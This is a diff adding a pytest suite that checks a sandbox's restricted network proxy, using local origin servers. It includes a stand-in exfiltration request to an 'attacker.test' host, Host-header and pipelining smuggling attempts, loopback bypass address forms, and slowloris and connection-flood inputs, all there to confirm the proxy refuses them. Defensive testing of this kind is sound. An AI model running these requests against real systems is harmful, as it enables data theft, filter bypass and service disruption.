@@ -1,0 +1,353 @@
+"""network_access: restricted — only allowed_domains, through agentbox's proxy.
+
+Every server here listens on 127.0.0.1 and is started by the test.  Test names
+("api.test", ...) are pinned to 127.0.0.1 with network_hosts: that is the
+operator consciously opening the inward-address guard for exactly those
+names.  Each test checks both what the sandbox saw and what the servers saw
+(nothing, for every refusal), and the violations the result reports.
+"""
+import http.server
+import os
+import socket
+import threading
+import time
+
+import pytest
+
+from canaries import brief, py, run_box
+
+
+class Origin:
+    """An HTTP server on 127.0.0.1 that records every request it gets."""
+
+    def __init__(self):
+        seen = self.seen = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                seen.append(("GET", self.path, self.headers.get("Host")))
+                body = b"hello from origin " + self.path.encode()
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def do_POST(self):
+                n = int(self.headers.get("Content-Length", 0))
+                data = self.rfile.read(n)
+                seen.append(("POST", self.path, self.headers.get("Host"), data))
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(data)))
+                self.end_headers()
+                self.wfile.write(data)
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def origin():
+    o = Origin()
+    yield o
+    o.close()
+
+
+# Through the proxy explicitly: NO_PROXY sends 127.0.0.1 and localhost around it.
+VIA = '''
+import http.client
+def via(label, url):
+    host = url.split("/")[2]
+    c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
+    c.request("GET", url, headers={"Host": host})
+    r = c.getresponse()
+    print(f"{label}: {r.status} {r.read().decode().strip()}", flush=True)
+'''
+
+
+def restricted(origin, *domains, hosts=("api.test", "other.test")):
+    args = ["--network", "restricted"]
+    for d in domains:
+        args += ["--allow-domain", d.replace("PORT", str(origin.port))]
+    for h in hosts:
+        args += ["--network-host", f"{h}=127.0.0.1"]
+    return args
+
+
+def violations(doc):
+    return [(v["rule"], v["target"], v["detail"]) for v in doc["violations"]]
+
+
+def ok(doc, stdout):
+    assert (doc["status"], doc["exit_code"], doc["_exit"]) == ("success", 0, 0), brief(doc)
+    assert doc["stdout"] == stdout, brief(doc)
+
+
+FETCH = '''
+import urllib.request, urllib.error, http.client
+def fetch(label, url):
+    try:
+        with urllib.request.urlopen(url, timeout=10) as r:
+            print(f"{label}: {r.status} {r.read().decode()}", flush=True)
+    except urllib.error.HTTPError as e:
+        print(f"{label}: {e.code} {e.read().decode().strip()}", flush=True)
+    except OSError as e:
+        print(f"{label}: {type(e).__name__}", flush=True)
+'''
+
+
+def test_allowed_name_reaches_server_with_urllib_http_client_and_curl(box, canary, origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py(FETCH, '''
+        fetch("urllib", f"http://api.test:{PORT}/a")
+        c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
+        c.request("GET", f"http://api.test:{PORT}/b", headers={"Host": f"api.test:{PORT}"})
+        r = c.getresponse()
+        print("http.client:", r.status, r.read().decode())
+        import subprocess
+        p = subprocess.run(["curl", "-sS", f"http://api.test:{PORT}/c"], capture_output=True)
+        print("curl:", p.returncode, p.stdout.decode())
+        p = subprocess.run(["curl", "-sS", "--socks5-hostname", "127.0.0.1:3128",
+                            f"http://api.test:{PORT}/d"], capture_output=True)
+        print("curl socks5:", p.returncode, p.stdout.decode())
+        print(os.environ["HTTP_PROXY"], os.environ["ALL_PROXY"])
+    ''', PORT=origin.port), canary=canary)
+    ok(doc, "urllib: 200 hello from origin /a\nhttp.client: 200 hello from origin /b\n"
+            "curl: 0 hello from origin /c\ncurl socks5: 0 hello from origin /d\n"
+            "http://127.0.0.1:3128 socks5h://127.0.0.1:3128\n")
+    host = f"api.test:{origin.port}"
+    assert [s[:3] for s in origin.seen] == [("GET", "/a", host), ("GET", "/b", host),
+                                             ("GET", "/c", host), ("GET", "/d", host)]
+    assert doc["violations"] == []
+    canary.assert_untouched(doc)
+
+
+def test_name_not_on_the_list_gets_403_and_a_violation_and_is_never_resolved(box, canary,
+                                                                              origin):
+    # other.test is pinned to the origin too: if the proxy let it through, the
+    # origin would see the request.  stolen-*.attacker.test has no answer at
+    # all: the refusal must come before any lookup.
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py(FETCH, '''
+        fetch("other", f"http://other.test:{PORT}/x")
+        fetch("exfil", "http://stolen-c2VjcmV0.attacker.test/y")
+        import subprocess
+        p = subprocess.run(["curl", "-sS", "https://stolen-c2VjcmV0.attacker.test/"],
+                           capture_output=True)
+        print("curl https:", p.returncode, p.stderr.decode().strip())
+    ''', PORT=origin.port), canary=canary)
+    ok(doc, f"other: 403 other.test:{origin.port} is not in allowed_domains\n"
+            "exfil: 403 stolen-c2vjcmv0.attacker.test:80 is not in allowed_domains\n"
+            "curl https: 56 curl: (56) CONNECT tunnel failed, response 403\n")
+    assert origin.seen == []
+    assert violations(doc) == [
+        ("network", f"other.test:{origin.port}", "not in allowed_domains"),
+        ("network", "stolen-c2vjcmv0.attacker.test:80", "not in allowed_domains"),
+        ("network", "stolen-c2vjcmv0.attacker.test:443", "not in allowed_domains")]
+    assert "refused 3 requests" in doc["message"]
+    canary.assert_untouched(doc)
+
+
+def test_listed_name_resolving_to_an_internal_address_is_refused(box, canary, origin):
+    # "localhost" is on the list but not pinned: the host's resolver says
+    # 127.0.0.1, which is loopback, so the guard refuses it.
+    doc = run_box(box, "python", *restricted(origin, "localhost:PORT", hosts=()), "-c",
+                  py(VIA, 'via("localhost", f"http://localhost:{PORT}/")', PORT=origin.port),
+                  canary=canary)
+    assert doc["stdout"].startswith("localhost: 403 localhost resolves to "), brief(doc)
+    assert "(loopback), which is not allowed" in doc["stdout"], brief(doc)
+    assert origin.seen == []
+    assert violations(doc)[0][:2] == ("network", f"localhost:{origin.port}")
+    canary.assert_untouched(doc)
+
+
+def test_ip_literals_match_only_ip_rules_as_written(box, canary, origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT", "127.0.0.1:PORT"), "-c",
+                  py(VIA, '''
+        via("ip listed", f"http://127.0.0.1:{PORT}/ip")
+        via("other port", f"http://127.0.0.1:{PORT + 1}/no")
+        via("decimal form", f"http://2130706433:{PORT}/no")
+        via("v6 form", f"http://[::ffff:127.0.0.1]:{PORT}/no")
+    ''', PORT=origin.port), canary=canary)
+    lines = doc["stdout"].splitlines()
+    assert lines[0] == "ip listed: 200 hello from origin /ip", brief(doc)
+    assert lines[1] == f"other port: 403 127.0.0.1:{origin.port + 1} is not in allowed_domains"
+    assert lines[2].startswith("decimal form: 400"), brief(doc)
+    assert lines[3] == f"v6 form: 403 [::ffff:127.0.0.1]:{origin.port} is not in allowed_domains"
+    assert [s[1] for s in origin.seen] == ["/ip"]
+    canary.assert_untouched(doc)
+
+
+def test_connect_to_a_port_not_allowed_is_refused(box, canary, origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
+        s = socket.create_connection(("127.0.0.1", 3128), 5)
+        s.sendall(b"CONNECT api.test:22 HTTP/1.1\\r\\nHost: api.test:22\\r\\n\\r\\n")
+        print(s.recv(200).split(b"\\r\\n")[0].decode())
+        s = socket.create_connection(("127.0.0.1", 3128), 5)
+        s.sendall(f"CONNECT api.test:{PORT} HTTP/1.1\\r\\n\\r\\n".encode())
+        print(s.recv(200).split(b"\\r\\n")[0].decode())
+        s.sendall(f"GET /tunnel HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n".encode())
+        print(s.recv(200).split(b"\\r\\n")[0].decode())
+    ''', PORT=origin.port), canary=canary)
+    ok(doc, "HTTP/1.1 403 Forbidden\nHTTP/1.1 200 Connection established\nHTTP/1.0 200 OK\n")
+    assert [s[1] for s in origin.seen] == ["/tunnel"]
+    assert violations(doc) == [("network", "api.test:22", "not in allowed_domains")]
+    canary.assert_untouched(doc)
+
+
+def test_socks5_with_domain_names_is_checked_like_http(box, canary, origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
+        import struct
+        def socks(name, port):
+            s = socket.create_connection(("127.0.0.1", 3128), 5)
+            s.sendall(b"\\x05\\x01\\x00")
+            assert s.recv(2) == b"\\x05\\x00"
+            s.sendall(b"\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name + struct.pack("!H", port))
+            return s, s.recv(10)[1]
+        s, code = socks(b"api.test", PORT)
+        s.sendall(b"GET /socks HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n")
+        print("allowed", code, s.recv(100).split(b"\\r\\n")[0].decode())
+        s, code = socks(b"evil.test", PORT)
+        print("refused", code)
+    ''', PORT=origin.port), canary=canary)
+    ok(doc, "allowed 0 HTTP/1.0 200 OK\nrefused 2\n")
+    assert [s[1] for s in origin.seen] == ["/socks"]
+    assert violations(doc) == [("network", f"evil.test:{origin.port}", "not in allowed_domains")]
+    canary.assert_untouched(doc)
+
+
+def test_host_header_and_pipelining_cannot_smuggle_a_second_destination(box, canary, origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
+        def raw(data):
+            s = socket.create_connection(("127.0.0.1", 3128), 5)
+            s.sendall(data)
+            out = b""
+            while True:
+                b = s.recv(4096)
+                if not b:
+                    return out
+                out += b
+        r = raw(f"GET http://api.test:{PORT}/one HTTP/1.1\\r\\nHost: other.test:{PORT}\\r\\n\\r\\n".encode())
+        print(r.split(b"\\r\\n")[0].decode())
+        r = raw(f"GET http://api.test:{PORT}/first HTTP/1.1\\r\\nHost: api.test:{PORT}\\r\\n\\r\\n"
+                f"GET http://other.test:{PORT}/second HTTP/1.1\\r\\nHost: other.test:{PORT}\\r\\n\\r\\n".encode())
+        print(r.count(b"HTTP/1.0 200"), b"/second" in r)
+    ''', PORT=origin.port), canary=canary)
+    ok(doc, "HTTP/1.1 400 Bad Request\n1 False\n")
+    assert [s[1:3] for s in origin.seen] == [("/first", f"api.test:{origin.port}")]
+    canary.assert_untouched(doc)
+
+
+def test_raw_connect_to_the_hosts_listener_fails_in_restricted_too(box, canary, listener, origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
+        for label, addr in (("listener", ("127.0.0.1", LPORT)), ("origin", ("127.0.0.1", OPORT))):
+            s = socket.socket()
+            s.settimeout(2)
+            attempt(label, s.connect, addr)
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        attempt("udp", u.sendto, b"x", ("127.0.0.1", UPORT))
+        try:
+            socket.getaddrinfo("example.com", 80)
+            print("dns: answered")
+        except socket.gaierror:
+            print("dns: no answer")
+    ''', LPORT=listener.port, OPORT=origin.port, UPORT=listener.udp_port), canary=canary)
+    assert doc["stdout"] in ("listener: ECONNREFUSED\norigin: ECONNREFUSED\nudp: OK\ndns: no answer\n",
+                             "listener: ECONNREFUSED\norigin: ECONNREFUSED\nudp: ECONNREFUSED\n"
+                             "dns: no answer\n"), brief(doc)
+    assert listener.contacts() == [] and origin.seen == []
+    canary.assert_untouched(doc)
+
+
+def test_connection_limit_refuses_and_reports(box, canary, origin, tmp_path):
+    config = tmp_path / "policy.yaml"
+    config.write_text("agent_sandbox:\n  security_policy:\n    max_network_connections: 2\n")
+    doc = run_box(box, "python", "--config", str(config), *restricted(origin, "api.test:PORT"),
+                  "-c", py(FETCH, '''
+        for i in range(4):
+            fetch(f"req{i}", f"http://api.test:{PORT}/{i}")
+    ''', PORT=origin.port), canary=canary)
+    lines = doc["stdout"].splitlines()
+    assert lines[:2] == ["req0: 200 hello from origin /0", "req1: 200 hello from origin /1"]
+    assert lines[2] == "req2: 403 max_network_connections (2) reached", brief(doc)
+    assert len(origin.seen) == 2
+    assert ("network", f"api.test:{origin.port}", "max_network_connections (2) reached") in \
+        violations(doc)
+    canary.assert_untouched(doc)
+
+
+def test_malformed_huge_slow_and_a_thousand_connections_leave_the_proxy_serving(box, canary,
+                                                                                origin):
+    """Garbage, a 1 MB header, a slowloris head and 1000 connections at once:
+    the proxy keeps serving, and once they are over, the supervisor holds no
+    more descriptors than before them."""
+    code = py('''
+        import select, time
+        time.sleep(1.0)                                  # fd baseline is taken now
+        def ask(data, wait=5):
+            s = socket.create_connection(("127.0.0.1", 3128), 5)
+            try:
+                s.sendall(data)
+            except OSError:
+                pass
+            s.settimeout(wait)
+            try:
+                return s.recv(200).split(b"\\r\\n")[0].decode()
+            except OSError as e:
+                return type(e).__name__
+            finally:
+                s.close()
+        print("garbage:", ask(b"\\x16\\x03\\x01 not http at all\\r\\n\\r\\n"))
+        print("huge:", ask(b"GET http://api.test/ HTTP/1.1\\r\\nX: " + b"a" * (1 << 20)))
+        slow = socket.create_connection(("127.0.0.1", 3128), 5)
+        slow.sendall(b"GET http://api.test/ HTTP/1.1\\r\\nX-Slow: ")
+        socks = []
+        for i in range(1000):
+            s = socket.socket()
+            s.setblocking(False)
+            try:
+                s.connect(("127.0.0.1", 3128))
+            except BlockingIOError:
+                pass
+            socks.append(s)
+        time.sleep(1)
+        for s in socks:
+            s.close()
+        slow.settimeout(8)
+        print("slowloris:", slow.recv(100).split(b"\\r\\n")[0].decode())
+        print("still serving:", ask(f"GET http://api.test:{PORT}/after HTTP/1.1\\r\\n"
+                                    f"Host: api.test:{PORT}\\r\\n\\r\\n".encode()))
+        time.sleep(2.0)                                  # fd count is taken again now
+    ''', PORT=origin.port)
+    import subprocess
+    args = [box.path, "python", "--json", "--timeout", "40", "--open-files", "4096",
+            *restricted(origin, "api.test:PORT"), "-c", code]
+    p = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=canary.env)
+    samples = []
+    t0 = time.monotonic()
+    while p.poll() is None:
+        try:
+            samples.append((time.monotonic() - t0, len(os.listdir(f"/proc/{p.pid}/fd"))))
+        except OSError:
+            pass
+        time.sleep(0.05)
+    out, err = p.communicate()
+    import json
+    doc = json.loads(out)
+    doc["_exit"] = p.returncode
+    ok(doc, "garbage: HTTP/1.1 400 Bad Request\nhuge: HTTP/1.1 431 Request Header Fields Too Large\n"
+            "slowloris: HTTP/1.1 408 Request Timeout\nstill serving: HTTP/1.0 200 OK\n")
+    assert [s[1] for s in origin.seen] == ["/after"]
+    end = samples[-1][0]
+    before = [n for t, n in samples if 0.4 < t < 0.9]
+    after = [n for t, n in samples if end - 1.2 < t < end - 0.3]
+    assert before and after, samples
+    assert max(after) <= min(before), (before, after)
+    assert any(v[2].startswith("max concurrent connections") for v in violations(doc)), brief(doc)
+    canary.assert_untouched(doc)
